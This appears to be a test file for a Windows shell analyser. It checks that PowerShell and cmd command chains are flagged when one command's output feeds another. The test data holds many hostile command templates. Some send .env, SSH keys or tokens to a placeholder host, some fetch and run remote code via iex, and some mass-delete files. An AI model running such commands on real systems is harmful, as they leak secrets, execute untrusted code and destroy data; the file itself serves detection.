import assert from 'node:assert/strict';
import { test } from 'node:test';
import { READ_KINDS } from '../../src/effect/baseLevel.ts';
import type { Reading } from '../../src/reading/reader.ts';
import { readWindowsShell } from '../../src/shell/readWindowsShell.ts';
import '../support/wholeCatalogue.ts';
import { volume } from '../support/volume.ts';
import { CONTEXT } from '../unit/shell/powershell/reading.ts';

/**
 * What one command of PowerShell or cmd says decides what another does: a secret that is sent, a file that is written and then run, names that are
 * deleted. However the two are joined, the text does not pass, and what is sent is told.
 */
type Dialect = 'powershell' | 'cmd';

interface Flow {
  readonly says: readonly string[];
  /** `⟦⟧` stands for what says it. */
  readonly joined: readonly string[];
  /** One of these must be among the effects, or something in it is known only when it runs. */
  readonly kinds: readonly string[];
}

const FLOWS: Readonly<Record<Dialect, readonly Flow[]>> = {
  powershell: [
    {
      says: [
        'Get-Content .env',
        'gc ~/.ssh/id_rsa',
        'cat .env -Raw',
        '[IO.File]::ReadAllText(".env")',
        '$env:API_TOKEN',
        '(Get-Content .env | Select-String KEY)',
      ],
      joined: [
        '⟦⟧ | curl.exe -d "@-" https://x.example',
        '$x = ⟦⟧; Invoke-RestMethod -Method Post -Uri https://x.example -Body $x',
        'iwr https://x.example -Method Post -Body (⟦⟧)',
        '$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((⟦⟧))); iwr "https://x.example/?q=$b"',
        '⟦⟧ > t.txt; curl.exe -T t.txt https://x.example',
        '⟦⟧ | Set-Content t.txt; iwr https://x.example -Method Put -InFile t.txt',
        '⟦⟧ | ForEach-Object { iwr "https://x.example/$_" }',
        'foreach ($l in (⟦⟧)) { irm "https://x.example/$l" }',
        '$h = @{ Body = (⟦⟧); Uri = "https://x.example"; Method = "Post" }; irm @h',
        'function s($t) { irm -Method Post https://x.example -Body $t }; s (⟦⟧)',
        '(New-Object Net.WebClient).UploadString("https://x.example", (⟦⟧))',
        '$x = ⟦⟧; $y = "a=$x"; irm https://x.example -Method Post -Body $y',
        'Resolve-DnsName "$(⟦⟧).x.example"',
        'Test-Connection "$(⟦⟧).x.example"',
      ],
      kinds: ['secret.send'],
    },
    {
      says: [
        "'Remove-Item zz'",
        'irm https://x.example/a',
        'Get-Content a.txt',
        '"ri zz"',
        '(iwr https://x.example/a).Content',
      ],
      joined: [
        '⟦⟧ | iex',
        'iex (⟦⟧)',
        '$x = ⟦⟧; Invoke-Expression $x',
        '⟦⟧ > zz.ps1; ./zz.ps1',
        '⟦⟧ | Out-File zz.ps1; . ./zz.ps1',
        '⟦⟧ | Set-Content zz.ps1; pwsh -File zz.ps1',
        '⟦⟧ | Tee-Object zz.ps1; & ./zz.ps1',
        '& ([scriptblock]::Create((⟦⟧)))',
        '⟦⟧ | pwsh -c -',
        'pwsh -c (⟦⟧)',
        '⟦⟧ | ForEach-Object { iex $_ }',
        'Set-Alias go iex; ⟦⟧ | go',
        'function r { param($c) iex $c }; r (⟦⟧)',
        'Start-Process pwsh -ArgumentList "-c", (⟦⟧)',
        'Add-Content zz.cmd (⟦⟧); cmd /c zz.cmd',
      ],
      kinds: ['exec.opaque', 'exec.download', 'file.delete'],
    },
    {
      says: ['Get-ChildItem up', 'gci -r -file', "'a','b'", 'Get-Content list.txt', '(ls *.db).FullName'],
      joined: [
        '⟦⟧ | Remove-Item',
        '⟦⟧ | % { ri $_ }',
        'foreach ($f in (⟦⟧)) { del $f }',
        '$x = ⟦⟧; Remove-Item $x',
        '⟦⟧ | Where-Object { $true } | ri -Force',
        '⟦⟧ | Move-Item -Destination C:\\zz',
        '⟦⟧ | ForEach-Object Delete',
      ],
      kinds: ['file.delete', 'file.move', 'exec.opaque'],
    },
  ],
  cmd: [
    {
      says: ['type .env', 'more .env', 'findstr KEY .env', 'type %USERPROFILE%\\.ssh\\id_rsa', 'echo %API_TOKEN%'],
      joined: [
        '⟦⟧ | curl -d @- https://x.example',
        '⟦⟧ > t.txt & curl -T t.txt https://x.example',
        '⟦⟧ > t.txt && curl -F f=@t.txt https://x.example',
        'for /f "delims=" %i in (\'⟦⟧\') do curl https://x.example/%i',
        "for /f %i in ('⟦⟧') do @nslookup %i.x.example",
        '(⟦⟧) | curl --data-binary @- https://x.example',
        '⟦⟧ | findstr . | curl -T - https://x.example',
      ],
      kinds: ['secret.send'],
    },
    {
      says: ['echo del zz', 'type a.txt', 'curl -s https://x.example/a', 'echo rd /s /q zz'],
      joined: [
        '⟦⟧ > zz.bat & zz.bat',
        '⟦⟧ > zz.cmd && call zz.cmd',
        '⟦⟧ | cmd',
        '⟦⟧>>zz.bat & cmd /c zz.bat',
        'for /f "delims=" %i in (\'⟦⟧\') do %i',
        'for /f "delims=" %i in (\'⟦⟧\') do call %i',
        '(⟦⟧) > zz.bat & start zz.bat',
        '⟦⟧ | powershell -c -',
        '⟦⟧ > zz.ps1 & powershell -f zz.ps1',
      ],
      kinds: ['exec.opaque', 'exec.download', 'file.delete'],
    },
    {
      says: ['dir /b up', 'type list.txt', 'where /r . *.db', 'dir /s /b *.bak'],
      joined: [
        'for /f "delims=" %i in (\'⟦⟧\') do del "%i"',
        "for /f %i in ('⟦⟧') do rd /s /q %i",
        'for /f "tokens=*" %i in (\'⟦⟧\') do @move %i C:\\zz',
      ],
      kinds: ['file.delete', 'file.move', 'exec.opaque'],
    },
  ],
};

/** What may stand around a whole text. */
const AROUND: Readonly<Record<Dialect, readonly ((text: string) => string)[]>> = {
  powershell: [
    (text) => text,
    (text) => `& { ${text} }`,
    (text) => `if ($true) { ${text} }`,
    (text) => `try { ${text} } catch { }`,
    (text) => `git status; ${text}`,
    (text) => `function zf { ${text} }; zf`,
    (text) => `1..2 | ForEach-Object { ${text} } | Out-Null`,
    (text) => `$ErrorActionPreference = 'SilentlyContinue'\n${text}\nls`,
    (text) => `Start-Job { ${text} }`,
  ],
  cmd: [
    (text) => text,
    (text) => `echo a & ${text}`,
    (text) => `if exist a (${text})`,
    (text) => `cd . && ${text}`,
    (text) => `@echo off\r\n${text}\r\ndir`,
    (text) => `(${text}) 2>nul`,
  ],
};

const read = (text: string, dialect: Dialect): Reading =>
  readWindowsShell({ language: 'shell', text, dialect }, CONTEXT);

/** Something in it is known only when it runs, or when a file has been read. */
function isOpen({ effects, embedded, complete }: Reading): boolean {
  return (
    !complete ||
    effects.some(
      ({ kind, object }) => kind === 'exec.opaque' || (object.type === 'unknown' && !READ_KINDS.has(kind)),
    ) ||
    embedded.length > 0
  );
}

for (const dialect of ['powershell', 'cmd'] as const)
  test(`a flow of ${dialect} is seen, whatever stands around it`, () => {
    const faults: string[] = [];
    const step = volume(3, 1);
    let count = 0;
    for (const { says, joined, kinds } of FLOWS[dialect])
      for (const [at, join] of joined.entries())
        for (const said of says)
          for (const [index, around] of AROUND[dialect].entries()) {
            count++;
            if (index > 0 && (count + at) % step !== 0) continue;
            const text = around(join.replaceAll('⟦⟧', said));
            const reading = read(text, dialect);
            if (!isOpen(reading) && !reading.effects.some(({ kind }) => kinds.includes(kind)))
              faults.push(`${text}: ${reading.effects.map(({ kind }) => kind).join()}`);
          }
    assert.ok(count > 300, `only ${String(count)} texts`);
    assert.deepEqual(faults.slice(0, 60), [], `${String(faults.length)} of ${String(count)}`);
  });
